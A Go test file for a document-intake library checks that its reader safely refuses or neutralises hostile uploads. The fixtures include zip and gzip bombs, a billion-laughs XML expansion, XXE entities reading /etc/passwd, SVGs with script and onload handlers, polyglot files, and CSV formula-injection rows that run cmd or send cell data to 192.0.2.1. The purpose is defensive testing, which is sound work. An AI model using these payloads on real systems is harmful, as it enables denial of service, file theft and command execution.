package intake_test

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"runtime"
	"strings"
	"testing"

	"github.com/surety-mechanism/surety/reading"
)

// TestHostileFiles: what is handed in to do harm is refused, or read as the words
// that stand in it: nothing is unpacked, expanded, fetched or run, and it costs no
// more than its own size allows.
func TestHostileFiles(t *testing.T) {
	zeros := make([]byte, 64<<20)
	var zipped bytes.Buffer
	z := zip.NewWriter(&zipped)
	w, err := z.Create("word/document.xml")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(zeros); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	var packed bytes.Buffer
	g := gzip.NewWriter(&packed)
	if _, err := g.Write(zeros); err != nil {
		t.Fatal(err)
	}
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}
	laughs := `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha">` + strings.Repeat(`<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">`, 1)
	for i := range 9 {
		laughs += `<!ENTITY ` + string(rune('c'+i)) + ` "` + strings.Repeat("&"+string(rune('b'+i))+";", 10) + `">`
	}
	laughs += `]><rss version="2.0"><channel><title>News</title><item><title>&k;</title><description>&k;</description></item></channel></rss>`
	outside := `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>` +
		`<rss version="2.0"><channel><title>News</title><item><title>&x;</title><description>The minister said that &x; is shut.</description></item></channel></rss>`
	script := `<svg xmlns="http://www.w3.org/2000/svg"><script>alert("the minister said peace")</script><text>Zelmora said the post was shelled.</text></svg>`
	// office is a document of an office program whose one part expands as laughs does,
	// and asks for a file of this machine.
	office := func(part string) []byte {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		w, err := z.Create(part)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(strings.Replace(laughs, "<!ENTITY a \"ha\">", `<!ENTITY a "ha"><!ENTITY x SYSTEM "file:///etc/passwd">`, 1))); err != nil {
			t.Fatal(err)
		}
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	for name, raw := range map[string][]byte{
		"entities.docx": office("word/document.xml"),
		"entities.xlsx": office("xl/worksheets/sheet1.xml"),
		"entities.odt":  office("content.xml"),
		"entities.svg": []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" ` +
			`onload="alert(1)"><image href="http://192.0.2.1/seen"/><foreignObject><body onload="alert(2)">Zelmora said that &x; is shut.</body></foreignObject></svg>`),
		"polyglot.gif": append([]byte("GIF89a/*"), zipped.Bytes()...),
		"polyglot.pdf": append(append([]byte("%PDF-1.7\n"), office("word/document.xml")...), "\n<script>alert(1)</script>\n%%EOF"...),
		"polyglot.txt": append([]byte("Zelmora said the post was shelled.\n"), zipped.Bytes()...),
		"formulas.csv": []byte("event,notes\n1,\"=HYPERLINK(\"\"http://192.0.2.1/\"\"&A1,\"\"see\"\")\"\n2,+cmd|' /C calc'!A0\n3,@SUM(1+1)*cmd|' /C calc'!A0\n"),
		"bomb.docx":    zipped.Bytes(),
		"bomb.zip":     zipped.Bytes(),
		"bomb.gz":      packed.Bytes(),
		"sheet.xlsx":   zipped.Bytes(),
		"laughs.xml":   []byte(laughs),
		"outside.xml":  []byte(outside),
		"drawing.svg":  []byte(script),
		"photo.png":    append([]byte("\x89PNG\r\n\x1a\n"), []byte("<html><body>Zelmora said peace.</body></html>")...),
		"deep.html":    []byte(strings.Repeat("<div>", 200_000) + "Zelmora said the post was shelled."),
		"page.pdf":     []byte("%PDF-1.7\n<html><script>alert(1)</script></html>"),
	} {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			all, err := reading.Read(name, raw, reading.Options{})
			runtime.ReadMemStats(&after)
			if spent := after.TotalAlloc - before.TotalAlloc; spent > 512<<20 {
				t.Errorf("%d bytes of file cost %d of memory", len(raw), spent)
			}
			if err != nil {
				if strings.Contains(err.Error(), "\n") {
					t.Errorf("it is refused with more than a sentence: %v", err)
				}
				return
			}
			text, err := json.Marshal(all)
			if err != nil {
				t.Fatal(err)
			}
			for _, bad := range []string{"hahahahahahahaha", "root:x:0", "alert("} {
				if bytes.Contains(text, []byte(bad)) {
					t.Errorf("what was read holds %q", bad)
				}
			}
		})
	}
}
